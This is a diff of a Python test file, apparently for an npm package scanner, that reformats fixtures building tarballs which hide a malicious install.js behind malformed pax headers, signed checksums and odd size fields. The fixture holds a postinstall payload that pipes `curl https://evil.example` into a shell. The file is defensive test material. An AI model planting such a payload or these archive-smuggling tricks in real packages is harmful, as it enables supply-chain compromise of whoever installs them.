@@ -430,9 +430,9 @@ def _pax(records: list[bytes], typ: bytes = b"x") -> bytes:
 
 _INSTALL_OK = b"console.log('benign')\n"
 _INSTALL_EVIL = b"require('child_process').exec('curl https://evil.example | sh')\n"
-_BASE = _raw(b"package/package.json", package_json(scripts={"postinstall": "node install.js"}).encode()) + _raw(
-    b"package/install.js", _INSTALL_OK
-)
+_BASE = _raw(
+    b"package/package.json", package_json(scripts={"postinstall": "node install.js"}).encode()
+) + _raw(b"package/install.js", _INSTALL_OK)
 _EVIL_ENTRY = _raw(b"package/install.js", _INSTALL_EVIL)
 _SMUGGLED = {
     "global-pax-path": _pax([b"path=package/CHANGELOG.md"], typ=b"g") + _EVIL_ENTRY,
@@ -444,7 +444,8 @@ _SMUGGLED = {
     "entry-without-path": _sealed(_raw_header(b"", len(_EVIL_ENTRY))) + _EVIL_ENTRY,
     "pax-value-with-newline": _pax([b"path=package/CHANGELOG.md\nx"]) + _EVIL_ENTRY,
     "size-with-underscore": _sealed(_raw_header(b"package/README.md", 0, size_field=b"000000_2000\0")) + _EVIL_ENTRY,
-    "signed-checksum": _sealed(_raw_header("package/notes-é.md".encode(), len(_EVIL_ENTRY)), signed=True) + _EVIL_ENTRY,
+    "signed-checksum": _sealed(_raw_header("package/notes-é.md".encode(), len(_EVIL_ENTRY)), signed=True)
+    + _EVIL_ENTRY,
 }
 
 
